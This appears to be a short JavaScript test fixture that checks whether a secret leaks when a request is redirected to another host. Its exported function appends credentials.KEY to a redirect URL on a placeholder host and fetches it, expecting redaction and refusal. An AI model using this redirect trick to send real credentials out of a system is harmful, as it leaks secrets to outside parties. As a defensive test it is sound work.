export const attempt = {
  tries: "to send a credential to another host with a redirect",
  blockedBecause: "the value is redacted in responses, and each redirect is a separate request",
  seen: ["GET /to", "GET /sent-on"],
  ends: { says: "refused" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
};

export default async ({ witness, other }, { credentials }) => {
  const url = encodeURIComponent(`http://${other}/sent-on?key=`) + credentials.KEY;
  const answer = await fetch(`http://${witness}/to?url=${url}`);
  return (await answer.json()).url.includes("redacted") ? "refused" : "got through";
};
